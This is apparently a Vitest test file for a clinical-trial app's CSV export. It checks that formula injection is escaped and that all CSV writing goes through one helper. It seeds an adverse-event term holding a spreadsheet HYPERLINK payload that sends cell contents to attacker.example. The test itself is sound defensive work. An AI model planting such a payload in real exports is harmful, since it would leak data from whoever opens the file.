import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { NextRequest } from 'next/server';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { enrollParticipant, makeOutcomeTrial } from '@/lib/assessments/test-support';
import type { CurrentUser } from '@/lib/auth/current-user';
import { createStaff } from '@/prisma/seed/users';
import { getTestPrisma } from '@/tests/helpers/test-db';

const session = vi.hoisted(() => ({ user: null as CurrentUser | null }));
vi.mock('@/lib/auth/current-user', () => ({ getCurrentUser: async () => session.user }));
vi.mock('@/lib/auth/request-context', () => ({
  getRequestContext: async () => ({ requestId: 'req-csv', ipAddress: '127.0.0.1', pathname: '/' }),
}));

const exportFileRoute = await import('@/app/api/v1/trials/[id]/exports/[file]/route');
const prisma = getTestPrisma();
const users = {} as Record<'admin' | 'coordinator' | 'clinician', CurrentUser>;
const INJECTED_TERM = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")';
let trialId = '';

beforeAll(async () => {
  Object.assign(users, await createStaff(prisma));
  const trial = await makeOutcomeTrial(prisma, { masking: null, arms: ['Ketamine', 'Midazolam'] });
  trialId = trial.id;
  const { enrollment } = await enrollParticipant(prisma, { trialId, armId: trial.arms[0].id, sessionDays: [-3] });
  await prisma.adverseEvent.create({
    data: {
      enrollmentId: enrollment.id,
      term: INJECTED_TERM,
      grade: 1,
      isSerious: false,
      relatedness: 'POSSIBLE',
      actionTaken: 'NONE',
      outcome: 'RECOVERED',
      onsetAt: new Date(Date.now() - 2 * 86_400_000),
      reportedById: users.clinician.id,
    },
  });
});

describe('CSV exports', () => {
  it('[ADMIN] an adverse-event term "=HYPERLINK(…)" is exported as text in adverse-events.csv', async () => {
    session.user = users.admin;
    const res = await exportFileRoute.GET(
      new NextRequest(`http://localhost:3000/api/v1/trials/${trialId}/exports/adverse-events.csv`),
      { params: Promise.resolve({ id: trialId, file: 'adverse-events.csv' }) },
    );
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Open"")"`);
    // No cell anywhere starts with a formula character.
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=@]/);
  });

  it('every CSV the app writes goes through lib/csv/to-csv.ts', () => {
    const root = path.resolve(import.meta.dirname, '../..');
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const file = path.join(dir, name);
        if (name === 'generated' || name === 'node_modules') continue;
        if (statSync(file).isDirectory()) walk(file);
        else if (/\.tsx?$/.test(name) && !name.endsWith('.test.ts') && file !== path.join(root, 'lib/csv/to-csv.ts')) {
          if (/from 'papaparse'|unparse\(/.test(readFileSync(file, 'utf8'))) offenders.push(path.relative(root, file));
        }
      }
    };
    for (const dir of ['app', 'lib', 'components']) walk(path.join(root, dir));
    // Parsing an uploaded CSV is fine; writing one elsewhere is not.
    const writers = offenders.filter((file) => /unparse\(/.test(readFileSync(path.join(root, file), 'utf8')));
    expect(writers).toEqual([]);
  });
});
